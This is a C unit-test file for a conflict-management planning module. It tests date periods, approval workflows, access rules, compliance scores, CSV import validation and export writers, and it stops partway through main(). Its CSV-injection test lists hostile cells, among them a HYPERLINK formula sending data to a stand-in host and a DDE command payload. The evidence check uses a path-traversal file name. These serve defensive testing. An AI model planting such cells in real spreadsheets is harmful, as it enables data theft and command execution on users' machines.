/* plan: period arithmetic, workflows, Status Keadaan Konflik, compliance, CSV validation and
 * the export writers. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/base.h"
#include "plan/plan.h"

static int64_t D(const char *s)
{
    int64_t d = 0;
    assert_int_equal(plan_date_parse(s, &d), 0);
    return d;
}

static void assert_day(int64_t day, const char *expect)
{
    char buf[16];
    plan_date_format(day, buf, sizeof(buf));
    assert_string_equal(buf, expect);
}

static const struct plan_calendar b4 = {"pks", PLAN_PERIOD_B4, 10, 5};

static void test_dates(void **state)
{
    (void)state;
    assert_true(date_leap_year(2024));
    assert_true(date_leap_year(2000));
    assert_false(date_leap_year(1900));
    assert_false(date_leap_year(2026));
    assert_int_equal(date_month_days(2024, 2), 29);
    assert_int_equal(date_month_days(2023, 2), 28);
    assert_int_equal(D("1970-01-01"), 0);
    assert_int_equal(D("2024-03-01") - D("2024-02-28"), 2);
    assert_int_equal(D("2023-03-01") - D("2023-02-28"), 1);
    int64_t d;
    assert_int_equal(plan_date_parse("2023-02-29", &d), WSP_EINVAL);
    assert_int_equal(plan_date_parse("2024-13-01", &d), WSP_EINVAL);
    assert_int_equal(plan_date_parse("2024-1-01", &d), WSP_EINVAL);
    assert_int_equal(plan_date_parse(NULL, &d), WSP_EINVAL);
    for (int64_t x = D("1999-12-25"); x < D("2001-01-10"); x++) {
        char buf[16];
        plan_date_format(x, buf, sizeof(buf));
        assert_int_equal(D(buf), x);
    }
    /* WIB is UTC+7: 16:59:59Z is still 1 January, 17:00:00Z is 2 January. */
    int64_t t;
    assert_int_equal(time_parse_iso("2024-01-01T16:59:59Z", &t), 0);
    assert_day(plan_day_of_time(t), "2024-01-01");
    assert_day(plan_day_of_time(t + 1), "2024-01-02");
}

static void test_periods(void **state)
{
    (void)state;
    int64_t first, last;
    assert_int_equal(plan_period_count(PLAN_PERIOD_B4), 3);
    assert_int_equal(plan_period_count(PLAN_PERIOD_QUARTER), 4);
    assert_int_equal(plan_period_count(PLAN_PERIOD_MONTH), 12);
    plan_period_bounds(PLAN_PERIOD_B4, 2024, 0, &first, &last);
    assert_day(first, "2024-01-01");
    assert_day(last, "2024-04-30");
    assert_int_equal(last - first + 1, 121); /* leap year: 31 + 29 + 31 + 30 */
    plan_period_bounds(PLAN_PERIOD_B4, 2023, 0, &first, &last);
    assert_int_equal(last - first + 1, 120);
    plan_period_bounds(PLAN_PERIOD_B4, 2024, 1, &first, &last);
    assert_day(first, "2024-05-01");
    assert_day(last, "2024-08-31");
    plan_period_bounds(PLAN_PERIOD_MONTH, 2024, 1, &first, &last);
    assert_day(last, "2024-02-29");
    plan_period_bounds(PLAN_PERIOD_MONTH, 2100, 1, &first, &last);
    assert_day(last, "2100-02-28");
    plan_period_bounds(PLAN_PERIOD_QUARTER, 2024, 3, &first, &last);
    assert_day(first, "2024-10-01");
    assert_day(last, "2024-12-31");

    /* Deadlines: last day + deadline days; due: + grace days. */
    assert_day(plan_period_deadline(&b4, 2024, 0), "2024-05-10");
    assert_day(plan_period_due(&b4, 2024, 0), "2024-05-15");
    assert_day(plan_period_deadline(&b4, 2024, 1), "2024-09-10");
    assert_day(plan_period_deadline(&b4, 2024, 2), "2025-01-10"); /* B-12 runs into next year */
    assert_day(plan_period_due(&b4, 2024, 2), "2025-01-15");
    const struct plan_calendar month = {"p3aks", PLAN_PERIOD_MONTH, 1, 0};
    assert_day(plan_period_deadline(&month, 2024, 1), "2024-03-01");
    assert_day(plan_period_deadline(&month, 2023, 1), "2023-03-01");
    const struct plan_calendar m2 = {"p3aks", PLAN_PERIOD_MONTH, 0, 2};
    assert_day(plan_period_due(&m2, 2024, 1), "2024-03-02");
    assert_day(plan_period_due(&m2, 2023, 1), "2023-03-02");
    const struct plan_calendar q = {"p3aks", PLAN_PERIOD_QUARTER, 15, 0};
    assert_day(plan_period_deadline(&q, 2024, 0), "2024-04-15");

    assert_true(plan_report_on_time(&b4, 2024, 0, D("2024-05-15")));
    assert_false(plan_report_on_time(&b4, 2024, 0, D("2024-05-16")));
    assert_true(plan_report_on_time(&b4, 2024, 0, D("2024-02-01")));

    int y, idx;
    plan_period_of(PLAN_PERIOD_B4, D("2024-05-01"), &y, &idx);
    assert_int_equal(idx, 1);
    plan_period_of(PLAN_PERIOD_B4, D("2024-04-30"), &y, &idx);
    assert_int_equal(idx, 0);
    plan_period_of(PLAN_PERIOD_QUARTER, D("2024-12-31"), &y, &idx);
    assert_int_equal(idx, 3);
    assert_int_equal(y, 2024);

    char code[8];
    plan_period_code(PLAN_PERIOD_B4, 2, code, sizeof(code));
    assert_string_equal(code, "B-12");
    plan_period_code(PLAN_PERIOD_QUARTER, 1, code, sizeof(code));
    assert_string_equal(code, "TW2");
    plan_period_code(PLAN_PERIOD_MONTH, 6, code, sizeof(code));
    assert_string_equal(code, "M07");
    assert_int_equal(plan_period_parse(PLAN_PERIOD_B4, "B-08"), 1);
    assert_int_equal(plan_period_parse(PLAN_PERIOD_B4, "B-05"), -1);
    assert_int_equal(plan_period_parse(PLAN_PERIOD_B4, "TW1"), -1);
    assert_int_equal(plan_period_parse(PLAN_PERIOD_MONTH, "M12"), 11);
    assert_int_equal(plan_period_type_parse("quarter"), PLAN_PERIOD_QUARTER);
    assert_int_equal(plan_period_type_parse("weekly"), -1);
}

struct wf_case {
    enum plan_rad_action action;
    const char *from;
    enum auth_role role;
    const char *scope, *region, *notes;
    int rc;
    const char *to;
};

static void test_rad_workflow(void **state)
{
    (void)state;
    static const struct wf_case cases[] = {
        /* submit: the region's own officers or admin, from draft or dikembalikan */
        {PLAN_RAD_SUBMIT, "draft", AUTH_ROLE_PROVINSI, "32", "32", NULL, 0, "diajukan"},
        {PLAN_RAD_SUBMIT, "dikembalikan", AUTH_ROLE_PROVINSI, "32", "32", NULL, 0, "diajukan"},
        {PLAN_RAD_SUBMIT, "draft", AUTH_ROLE_KABKOTA, "32.73", "32.73", NULL, 0, "diajukan"},
        {PLAN_RAD_SUBMIT, "draft", AUTH_ROLE_ADMIN, "", "32", NULL, 0, "diajukan"},
        {PLAN_RAD_SUBMIT, "draft", AUTH_ROLE_PROVINSI, "32", "32.73", NULL, WSP_EPERM, NULL},
        {PLAN_RAD_SUBMIT, "draft", AUTH_ROLE_PROVINSI, "31", "32", NULL, WSP_EPERM, NULL},
        {PLAN_RAD_SUBMIT, "draft", AUTH_ROLE_KABKOTA, "32.73", "32", NULL, WSP_EPERM, NULL},
        {PLAN_RAD_SUBMIT, "draft", AUTH_ROLE_PUSAT, "", "32", NULL, WSP_EPERM, NULL},
        {PLAN_RAD_SUBMIT, "draft", AUTH_ROLE_PELAPOR, "32", "32", NULL, WSP_EPERM, NULL},
        {PLAN_RAD_SUBMIT, "diajukan", AUTH_ROLE_PROVINSI, "32", "32", NULL, WSP_EEXIST, NULL},
        {PLAN_RAD_SUBMIT, "disetujui", AUTH_ROLE_PROVINSI, "32", "32", NULL, WSP_EEXIST, NULL},
        /* return: pusat or admin, from diajukan, with notes */
        {PLAN_RAD_RETURN, "diajukan", AUTH_ROLE_PUSAT, "", "32", "lengkapi", 0, "dikembalikan"},
        {PLAN_RAD_RETURN, "diajukan", AUTH_ROLE_ADMIN, "", "32", "lengkapi", 0, "dikembalikan"},
        {PLAN_RAD_RETURN, "diajukan", AUTH_ROLE_PUSAT, "", "32", NULL, WSP_EINVAL, NULL},
        {PLAN_RAD_RETURN, "diajukan", AUTH_ROLE_PUSAT, "", "32", "", WSP_EINVAL, NULL},
        {PLAN_RAD_RETURN, "diajukan", AUTH_ROLE_PROVINSI, "32", "32", "x", WSP_EPERM, NULL},
        {PLAN_RAD_RETURN, "draft", AUTH_ROLE_PUSAT, "", "32", "x", WSP_EEXIST, NULL},
        {PLAN_RAD_RETURN, "disetujui", AUTH_ROLE_PUSAT, "", "32", "x", WSP_EEXIST, NULL},
        /* approve: pusat or admin, from diajukan */
        {PLAN_RAD_APPROVE, "diajukan", AUTH_ROLE_PUSAT, "", "32", NULL, 0, "disetujui"},
        {PLAN_RAD_APPROVE, "diajukan", AUTH_ROLE_ADMIN, "", "32.73", NULL, 0, "disetujui"},
        {PLAN_RAD_APPROVE, "diajukan", AUTH_ROLE_PROVINSI, "32", "32", NULL, WSP_EPERM, NULL},
        {PLAN_RAD_APPROVE, "diajukan", AUTH_ROLE_KABKOTA, "32.73", "32.73", NULL, WSP_EPERM, NULL},
        {PLAN_RAD_APPROVE, "dikembalikan", AUTH_ROLE_PUSAT, "", "32", NULL, WSP_EEXIST, NULL},
        {PLAN_RAD_APPROVE, "draft", AUTH_ROLE_PUSAT, "", "32", NULL, WSP_EEXIST, NULL},
        {PLAN_RAD_APPROVE, "disetujui", AUTH_ROLE_PUSAT, "", "32", NULL, WSP_EEXIST, NULL},
    };
    for (size_t i = 0; i < WSP_ARRAY_LEN(cases); i++) {
        const struct wf_case *c = &cases[i];
        const char *to = "unset";
        struct error err = {0};
        int rc = plan_rad_transition(c->action, c->from, c->role, c->scope, c->region, c->notes,
                                     &to, &err);
        if (rc != c->rc)
            fail_msg("case %zu: expected %d, got %d (%s)", i, c->rc, rc, err.msg);
        if (c->to)
            assert_string_equal(to, c->to);
        else
            assert_null(to);
    }
    assert_int_equal(plan_rad_action_parse("approve"), PLAN_RAD_APPROVE);
    assert_int_equal(plan_rad_action_parse("setujui"), -1);
    assert_true(plan_rad_editable("draft"));
    assert_true(plan_rad_editable("dikembalikan"));
    assert_false(plan_rad_editable("diajukan"));
    assert_false(plan_rad_editable("disetujui"));
}

static void test_access_rules(void **state)
{
    (void)state;
    assert_true(plan_may_read(AUTH_ROLE_PUSAT, "", "94"));
    assert_true(plan_may_read(AUTH_ROLE_PROVINSI, "32", "32.73"));
    assert_false(plan_may_read(AUTH_ROLE_PROVINSI, "32", "31"));
    assert_false(plan_may_read(AUTH_ROLE_KABKOTA, "32.73", "32"));
    assert_false(plan_may_read(AUTH_ROLE_PELAPOR, "32.73", "32.73"));
    assert_true(plan_may_edit(AUTH_ROLE_PROVINSI, "32", "32"));
    assert_false(plan_may_edit(AUTH_ROLE_PROVINSI, "32", "32.73"));
    assert_false(plan_may_edit(AUTH_ROLE_PUSAT, "", "32"));
    assert_true(plan_may_edit(AUTH_ROLE_ADMIN, "", "32.73"));
    assert_true(plan_may_see_contacts(AUTH_ROLE_PUSAT, "", "32.73"));
    assert_true(plan_may_see_contacts(AUTH_ROLE_KABKOTA, "32.73", "32.73"));
    assert_false(plan_may_see_contacts(AUTH_ROLE_PROVINSI, "32", "32.73"));
    assert_true(plan_may_see_victims(AUTH_ROLE_PROVINSI, "32", "32.73"));
    assert_false(plan_may_see_victims(AUTH_ROLE_PUSAT, "", "32.73"));
    assert_false(plan_may_see_victims(AUTH_ROLE_KABKOTA, "32.73", "32.04"));
}

static void test_cases_and_skk(void **state)
{
    (void)state;
    assert_true(plan_case_transition_allowed("potensi", "aktif"));
    assert_true(plan_case_transition_allowed("aktif", "dihentikan"));
    assert_true(plan_case_transition_allowed("dihentikan", "pemulihan"));
    assert_true(plan_case_transition_allowed("pemulihan", "selesai"));
    assert_true(plan_case_transition_allowed("selesai", "aktif"));
    assert_false(plan_case_transition_allowed("potensi", "pemulihan"));
    assert_false(plan_case_transition_allowed("aktif", "selesai"));
    assert_false(plan_case_transition_allowed("selesai", "potensi"));
    assert_false(plan_case_transition_allowed("aktif", "aktif"));
    assert_false(plan_case_transition_allowed("aktif", "tamat"));
    assert_true(plan_case_issue_valid("sumber_daya"));
    assert_false(plan_case_issue_valid("tanah"));

    struct error err = {0};
    assert_int_equal(plan_skk_validate("2026-01-01", "2026-04-01", &err), 0); /* 90 days */
    assert_int_equal(plan_skk_validate("2026-01-01", "2026-04-02", &err), WSP_EINVAL);
    assert_string_equal(err.msg, "status keadaan konflik lasts at most 90 days: '2026-01-01' to "
                                 "'2026-04-02' is 91 days");
    /* Leap year: 1 January + 90 days is 31 March. */
    assert_int_equal(plan_skk_validate("2024-01-01", "2024-03-31", &err), 0);
    assert_int_equal(plan_skk_validate("2024-01-01", "2024-04-01", &err), WSP_EINVAL);
    assert_int_equal(plan_skk_validate("2026-01-01", "2026-01-01", &err), 0);
    assert_int_equal(plan_skk_validate("2026-02-01", "2026-01-31", &err), WSP_EINVAL);
    assert_string_equal(err.msg,
                        "status keadaan konflik: end '2026-01-31' is before start '2026-02-01'");
    assert_int_equal(plan_skk_validate("2026-02-30", "2026-03-01", &err), WSP_EINVAL);
}

/* Which events a case may be opened from: inside its region, or the case inside the event's
 * regency; never another region's, a province-only event for a regency's case, or no place. */
static void test_case_event_region(void **state)
{
    (void)state;
    static const struct {
        const char *case_region, *event_region;
        bool want;
    } cases[] = {
        {"32.73", "32.73", true},         /* same regency */
        {"32.73", "32.73.01.1001", true}, /* a village of it */
        {"32", "32.73", true},            /* a province's case, its regency's event */
        {"32", "32", true},               /* province-level both */
        {"32.73.01", "32.73", true},      /* a district's case, an event known at regency */
        {"32.73.01", "32.73.01.1001", true},
        {"32.73", "32.04", false},            /* another regency of the same province */
        {"32.73", "33.74", false},            /* another province */
        {"32.73", "32", false},               /* known only at province level */
        {"32.73.01", "32.73.02.2001", false}, /* another district of the regency */
        {"32", "33", false},
        {"32", "3", false},
        {"32.73", NULL, false}, /* no place */
        {"32.73", "", false},
        {NULL, "32.73", false},
        {"", "32.73", false},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        if (plan_case_event_in_region(cases[i].case_region, cases[i].event_region) != cases[i].want)
            fail_msg("case %zu ('%s', '%s'): want %s", i,
                     cases[i].case_region ? cases[i].case_region : "NULL",
                     cases[i].event_region ? cases[i].event_region : "NULL",
                     cases[i].want ? "true" : "false");
}

/* The fixture of the compliance test: six provinces in 2024 as of 30 September, when B-04
 * (due 15 May) and B-08 (due 15 September) are closed and B-12 is open. */
static void test_compliance(void **state)
{
    (void)state;
    const struct plan_comp_region regions[] = {
        {"11", "Aceh", true, NULL},
        {"32", "Jawa Barat", true, "disetujui"},
        {"33", "Jawa Tengah", false, "draft"},
        {"35", "Jawa Timur", false, "disetujui"},
        {"72", "Sulawesi Tengah", true, "diajukan"},
        {"73", "Sulawesi Selatan", true, "dikembalikan"},
    };
    const struct plan_comp_action actions[] = {
        {1, 101, D("2024-01-01"), D("2024-12-31")},
        {1, 102, D("2024-06-01"), D("2024-12-31")}, /* B-08 and B-12 only */
        {3, 301, D("2024-01-01"), D("2024-12-31")},
    };
    const struct plan_comp_report reports[] = {
        {101, 0, D("2024-05-15")}, /* last day of grace: on time */
        {101, 1, D("2024-09-16")}, /* one day late */
        {102, 1, D("2024-09-10")}, /* on the deadline */
        {101, 2, D("2024-09-20")}, /* B-12 is not closed yet: not counted */
    };
    struct arena a;
    arena_init(&a, 0);
    struct plan_comp_row *rows;
    struct error err = {0};
    assert_int_equal(plan_compliance_compute(&b4, 2024, D("2024-09-30"), regions, 6, actions, 3,
                                             reports, 4, &a, &rows, &err),
                     0);
    static const struct {
        const char *code, *rad;
        long expected, submitted, on_time, late;
        double rr, otr, score;
        int rank;
    } expect[] = {
        {"32", "disetujui", 3, 3, 2, 1, 100.0, 66.7, 93.3, 1},
        {"72", "diajukan", 0, 0, 0, 0, 0.0, 0.0, 35.0, 2},
        {"73", "dikembalikan", 0, 0, 0, 0, 0.0, 0.0, 35.0, 2},
        {"35", "disetujui", 2, 0, 0, 0, 0.0, 0.0, 30.0, 4},
        {"11", "belum", 0, 0, 0, 0, 0.0, 0.0, 20.0, 5},
        {"33", "draft", 0, 0, 0, 0, 0.0, 0.0, 7.5, 6},
    };
    for (size_t i = 0; i < WSP_ARRAY_LEN(expect); i++) {
        assert_string_equal(rows[i].code, expect[i].code);
        assert_string_equal(rows[i].rad_status, expect[i].rad);
        assert_int_equal(rows[i].expected, expect[i].expected);
        assert_int_equal(rows[i].submitted, expect[i].submitted);
        assert_int_equal(rows[i].on_time, expect[i].on_time);
        assert_int_equal(rows[i].late, expect[i].late);
        assert_true(rows[i].reporting_rate == expect[i].rr);
        assert_true(rows[i].on_time_rate == expect[i].otr);
        if (rows[i].score != expect[i].score)
            fail_msg("%s: score %.2f, expected %.2f", rows[i].code, rows[i].score, expect[i].score);
        assert_int_equal(rows[i].rank, expect[i].rank);
    }
    /* One day later B-12 is still open; as of 16 January 2025 it is closed too. */
    assert_int_equal(plan_compliance_compute(&b4, 2024, D("2025-01-16"), regions, 6, actions, 3,
                                             reports, 4, &a, &rows, &err),
                     0);
    assert_string_equal(rows[0].code, "32");
    assert_int_equal(rows[0].expected, 5);
    assert_int_equal(rows[0].submitted, 4);
    assert_int_equal(rows[0].on_time, 3);
    assert_true(rows[0].reporting_rate == 80.0);
    assert_true(rows[0].on_time_rate == 60.0);
    /* 200 + 300 + round(300 * 4/5) + round(200 * 3/5) = 200 + 300 + 240 + 120 */
    assert_true(rows[0].score == 86.0);
    /* Grace days matter: with no grace the report of 15 May is late. */
    const struct plan_calendar strict = {"pks", PLAN_PERIOD_B4, 10, 0};
    assert_int_equal(plan_compliance_compute(&strict, 2024, D("2024-09-30"), regions, 6, actions, 3,
                                             reports, 4, &a, &rows, &err),
                     0);
    assert_int_equal(rows[0].on_time, 1);
    assert_int_equal(plan_score_rad_tenths("disetujui"), 300);
    assert_int_equal(plan_score_rad_tenths(NULL), 0);
    arena_release(&a);
}

static void header(struct plan_csv_map *map)
{
    const char *h[] = {"fase",   "program",  "kegiatan",    "indikator", "target",
                       "satuan", "anggaran", "sumber_dana", "opd",       "instansi_terkait",
                       "fokus",  "p3aks",    "mulai",       "selesai"};
    struct error err = {0};
    assert_int_equal(plan_csv_header(h, 14, map, &err), 0);
}

static int row(size_t n, const char *fase, const char *target, const char *anggaran,
               const char *fokus, const char *p3aks, const char *mulai, const char *selesai,
               struct plan_action_in *out, struct error *err)
{
    struct plan_csv_map map;
    header(&map);
    const char *r[] = {fase,   "Program",    "Kegiatan", "Indikator", target, "kali", anggaran,
                       "APBD", "Kesbangpol", "",         fokus,       p3aks,  mulai,  selesai};
    return plan_csv_row(n, r, 14, &map, 2026, out, err);
}

static void expect_row_error(const char *msg, size_t n, const char *fase, const char *target,
                             const char *anggaran, const char *fokus, const char *p3aks,
                             const char *mulai, const char *selesai)
{
    struct plan_action_in in;
    struct error err = {0};
    assert_int_equal(row(n, fase, target, anggaran, fokus, p3aks, mulai, selesai, &in, &err),
                     WSP_EINVAL);
    assert_string_equal(err.msg, msg);
}

static void test_csv(void **state)
{
    (void)state;
    struct plan_action_in in;
    struct error err = {0};
    assert_int_equal(row(2, "pencegahan", "12,5", "1.500.000", "covid19", "ya", "2026-01-05",
                         "2026-06-30", &in, &err),
                     0);
    assert_true(in.target == 12.5);
    assert_int_equal(in.anggaran, 1500000);
    assert_true(in.p3aks);
    assert_null(in.instansi_terkait);
    assert_string_equal(in.start, "2026-01-05");

    expect_row_error("baris 3, kolom fase: 'pencegahn' bukan fase yang dikenal", 3, "pencegahn",
                     "1", "100", "potensi_konflik", "tidak", "", "");
    expect_row_error("baris 4, kolom fase: wajib diisi", 4, "", "1", "100", "potensi_konflik",
                     "tidak", "", "");
    expect_row_error("baris 5, kolom target: 'dua' bukan angka", 5, "pemulihan", "dua", "100",
                     "potensi_konflik", "tidak", "", "");
    expect_row_error("baris 6, kolom anggaran: '12,5' bukan jumlah rupiah (bilangan bulat, mis. "
                     "150000000)",
                     6, "pemulihan", "1", "12,5", "potensi_konflik", "tidak", "", "");
    expect_row_error("baris 7, kolom anggaran: '1.50.000' bukan jumlah rupiah (bilangan bulat, "
                     "mis. 150000000)",
                     7, "pemulihan", "1", "1.50.000", "potensi_konflik", "tidak", "", "");
    expect_row_error("baris 8, kolom p3aks: 'mungkin' harus 'ya' atau 'tidak'", 8, "pemulihan", "1",
                     "100", "potensi_konflik", "mungkin", "", "");
    expect_row_error("baris 9, kolom mulai: '2026-02-30' bukan tanggal ISO (YYYY-MM-DD)", 9,
                     "pemulihan", "1", "100", "potensi_konflik", "tidak", "2026-02-30", "");
    expect_row_error("baris 10, kolom selesai: '2026-01-31' sebelum tanggal mulai '2026-02-01'", 10,
                     "pemulihan", "1", "100", "potensi_konflik", "tidak", "2026-02-01",
                     "2026-01-31");
    expect_row_error("baris 11, kolom mulai: '2025-12-01' di luar tahun rencana 2026", 11,
                     "pemulihan", "1", "100", "potensi_konflik", "tidak", "2025-12-01", "");
    expect_row_error("baris 12, kolom fokus: 'Covid 19' bukan fokus yang dikenal "
                     "(konflik_faktual, potensi_konflik, atau tema huruf kecil seperti covid19)",
                     12, "pemulihan", "1", "100", "Covid 19", "tidak", "", "");

    struct plan_csv_map map;
    const char *bad[] = {"fase", "program", "fsae"};
    assert_int_equal(plan_csv_header(bad, 3, &map, &err), WSP_EINVAL);
    assert_string_equal(err.msg, "baris 1, kolom 'fsae': kolom tidak dikenal");
    const char *dup[] = {"fase", "Fase"};
    assert_int_equal(plan_csv_header(dup, 2, &map, &err), WSP_EINVAL);
    assert_string_equal(err.msg, "baris 1, kolom fase: kolom ganda");
    const char *missing[] = {"\xEF\xBB\xBF"
                             "fase",
                             "program"};
    assert_int_equal(plan_csv_header(missing, 2, &map, &err), WSP_EINVAL);
    assert_string_equal(err.msg, "baris 1: kolom wajib 'kegiatan' tidak ada");

    header(&map);
    const char *short_row[] = {"pencegahan", "x"};
    assert_int_equal(plan_csv_row(2, short_row, 2, &map, 2026, &in, &err), WSP_EINVAL);
    assert_string_equal(err.msg, "baris 2: ada 2 kolom, seharusnya 14");

    int64_t rp;
    assert_int_equal(plan_parse_rupiah("150000000", &rp), 0);
    assert_int_equal(rp, 150000000);
    assert_int_equal(plan_parse_rupiah("12.000", &rp), 0);
    assert_int_equal(rp, 12000);
    assert_int_equal(plan_parse_rupiah("1500.000", &rp), WSP_EINVAL);
    assert_int_equal(plan_parse_rupiah(".500", &rp), WSP_EINVAL);
    assert_int_equal(plan_parse_rupiah("-5", &rp), WSP_EINVAL);
    assert_int_equal(plan_parse_rupiah("99999999999999999999", &rp), WSP_EINVAL);
}

static void test_evidence_check(void **state)
{
    (void)state;
    const char *type;
    struct error err = {0};
    assert_int_equal(plan_evidence_check("bukti.pdf", "%PDF-1.7", 8, &type, &err), 0);
    assert_string_equal(type, "application/pdf");
    assert_int_equal(plan_evidence_check("foto.JPG", "\xff\xd8\xff\xe0", 4, &type, &err), 0);
    assert_int_equal(plan_evidence_check("bukti.pdf", "MZ\x90", 3, &type, &err), WSP_EINVAL);
    assert_string_equal(err.msg, "content of 'bukti.pdf' is not a pdf file");
    assert_int_equal(plan_evidence_check("run.exe", "MZ", 2, &type, &err), WSP_EINVAL);
    assert_int_equal(plan_evidence_check("../x.pdf", "%PDF-", 5, &type, &err), WSP_EINVAL);
    assert_int_equal(plan_evidence_check("a.pdf", "", 0, &type, &err), WSP_EINVAL);
    char h[65];
    plan_evidence_hash("abc", 3, h);
    assert_string_equal(h, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

/* The export writers: RFC 4180 quoting after a BOM, the buffer cap, an XLSX package. */
static void test_table_writers(void **state)
{
    (void)state;
    static const char *const head[] = {"kode", "nama", "angka"};
    static const enum plan_cell_kind kinds[] = {PLAN_CELL_TEXT, PLAN_CELL_TEXT, PLAN_CELL_NUM};
    static const char *const vals[] = {"32", "Polda, \"Kodam\"\r\nBappeda", "1.5", "11", "", "x"};
    struct plan_table t = {.sheet = "Uji", .ncols = 3, .head = head, .kinds = kinds};
    t.cells = xmalloc(WSP_ARRAY_LEN(vals) * sizeof(char *));
    for (size_t i = 0; i < WSP_ARRAY_LEN(vals); i++)
        t.cells[i] = xstrdup(vals[i]);
    t.nrows = t.cap = 2;
    struct buf b;
    buf_init(&b, 0);
    assert_int_equal(plan_table_csv(&t, &b, NULL), 0);
    assert_string_equal(buf_cstr(&b), "\xEF\xBB\xBFkode,nama,angka\r\n"
                                      "32,\"Polda, \"\"Kodam\"\"\r\nBappeda\",1.5\r\n"
                                      "11,,x\r\n");
    struct buf small;
    buf_init(&small, 16);
    struct error err = {0};
    assert_int_equal(plan_table_csv(&t, &small, &err), WSP_ENOMEM);
    buf_release(&small);
    buf_reset(&b);
    assert_int_equal(plan_table_xlsx_buf(&t, &b, NULL), 0);
    assert_true(b.len > 1000);
    assert_memory_equal(b.data, "PK\x03\x04", 4);
    buf_release(&b);
    plan_table_release(&t);
    assert_null(t.cells);
    plan_table_release(&t); /* released twice: still fine */
}

/* Found by fuzz_csv_import: messages quoting a cell were cut in the middle of a character
 * (a cell may hold 2000 bytes, a message 512) and quoted header cells that were not UTF-8.
 * Now a value is quoted up to 60 bytes, cut between characters, with "..."; every message is
 * valid UTF-8 (corpus: csv_import/long_value_message.csv, invalid_utf8_header.csv). */
static void test_csv_messages_utf8(void **state)
{
    (void)state;
    struct buf fase;
    buf_init(&fase, 0);
    buf_puts(&fase, "pencegahn");
    for (int i = 0; i < 900; i++)
        buf_puts(&fase, "\xC3\xA9"); /* é: 1809 bytes, under the 2000 a cell may hold */
    struct plan_action_in in;
    struct error err = {0};
    assert_int_equal(
        row(2, buf_cstr(&fase), "1", "100", "potensi_konflik", "tidak", "", "", &in, &err),
        WSP_EINVAL);
    struct buf want;
    buf_init(&want, 0);
    buf_puts(&want, "baris 2, kolom fase: 'pencegahn");
    for (int i = 0; i < 25; i++)
        buf_puts(&want, "\xC3\xA9");
    buf_puts(&want, "...' bukan fase yang dikenal");
    assert_string_equal(err.msg, buf_cstr(&want));
    assert_true(utf8_valid(err.msg, strlen(err.msg)));
    buf_release(&want);
    buf_release(&fase);

    /* a short value is quoted whole */
    assert_int_equal(row(3, "pencegahan", "1", "100", "potensi_konflik",
                         "12345678901234567890123456789012345678901234567890123456789X", "", "",
                         &in, &err),
                     WSP_EINVAL);
    assert_string_equal(err.msg,
                        "baris 3, kolom p3aks: "
                        "'12345678901234567890123456789012345678901234567890123456789X' harus "
                        "'ya' atau 'tidak'");

    struct plan_csv_map map;
    const char *latin1[] = {"fase", "caf\xE9"};
    assert_int_equal(plan_csv_header(latin1, 2, &map, &err), WSP_EINVAL);
    assert_string_equal(err.msg, "baris 1, kolom ke-2: bukan teks UTF-8 yang sah");

    char longname[2 * 40 + 1] = "";
    for (int i = 0; i < 40; i++)
        memcpy(longname + 2 * i, "\xC3\xA9", 3);
    const char *cut[] = {longname};
    assert_int_equal(plan_csv_header(cut, 1, &map, &err), WSP_EINVAL);
    assert_true(utf8_valid(err.msg, strlen(err.msg)));
    char expect[128] = "baris 1, kolom '";
    memcpy(expect + 16, longname, 62); /* 31 whole characters of the 63 bytes kept */
    str_copy(expect + 16 + 62, "': kolom tidak dikenal", sizeof(expect) - 16 - 62);
    assert_string_equal(err.msg, expect);
}

/* The CSV text of a one-cell table holding v, without the BOM, the header row and the CRLF. */
static char *csv_of(const char *v)
{
    static const char *const head[] = {"x"};
    static const enum plan_cell_kind kinds[] = {PLAN_CELL_TEXT};
    struct plan_table t = {.sheet = "Uji", .ncols = 1, .head = head, .kinds = kinds};
    t.cells = xmalloc(sizeof(char *));
    t.cells[0] = xstrdup(v);
    t.nrows = t.cap = 1;
    struct buf b;
    buf_init(&b, 0);
    assert_int_equal(plan_table_csv(&t, &b, NULL), 0);
    plan_table_release(&t);
    static const char pre[] = "\xEF\xBB\xBFx\r\n";
    assert_true(b.len >= sizeof(pre) + 1);
    assert_memory_equal(b.data, pre, sizeof(pre) - 1);
    assert_memory_equal(b.data + b.len - 2, "\r\n", 2);
    char *out = xstrndup(b.data + sizeof(pre) - 1, b.len - (sizeof(pre) - 1) - 2);
    buf_release(&b);
    return out;
}

/* CSV injection: cells a spreadsheet would run as a formula get a leading ', numbers do not. */
static void test_csv_formula_cells(void **state)
{
    (void)state;
    static const char *const cases[][2] = {
        {"=1+1", "'=1+1"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"+1+1", "'+1+1"},
        {"-1+1", "'-1+1"},
        {"\tx", "'\tx"},
        {"\rx", "\"'\rx\""},
        {"=HYPERLINK(\"http://x.test/?d=\"&A1,\"klik\")",
         "\"'=HYPERLINK(\"\"http://x.test/?d=\"\"&A1,\"\"klik\"\")\""},
        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
        /* plain numbers stay numbers */
        {"-5", "-5"},
        {"+3.2", "+3.2"},
        {"-0.5", "-0.5"},
        {"-.5", "-.5"},
        {"-2,5", "\"-2,5\""},
        {"-1e+06", "-1e+06"},
        {"12", "12"},
        /* phone numbers: digits only is a number; with spaces or dashes it is not */
        {"+6281234567890", "+6281234567890"},
        {"+62 812 3456 7890", "'+62 812 3456 7890"},
        {"+62-812-3456-7890", "'+62-812-3456-7890"},
        /* not numbers, so text */
        {"-", "'-"},
        {"+", "'+"},
        {"-5-3", "'-5-3"},
        {"--5", "'--5"},
        {"-1e", "'-1e"},
        {"-5 ", "'-5 "},
        /* harmless where the sign is not first (after spaces) */
        {"1-2", "1-2"},
        {"a=b", "a=b"},
        {" =1+1", "' =1+1"},
        {"  -5", "  -5"},
        {"  -x", "'  -x"},
        {"", ""},
        {"Pemetaan, \"rawan\"", "\"Pemetaan, \"\"rawan\"\"\""},
    };
    for (size_t i = 0; i < WSP_ARRAY_LEN(cases); i++) {
        char *got = csv_of(cases[i][0]);
        if (!str_eq(got, cases[i][1]))
            fail_msg("cell '%s': expected '%s', got '%s'", cases[i][0], cases[i][1], got);
        free(got);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_dates),
        cmocka_unit_test(test_periods),
        cmocka_unit_test(test_rad_workflow),
        cmocka_unit_test(test_access_rules),
        cmocka_unit_test(test_cases_and_skk),
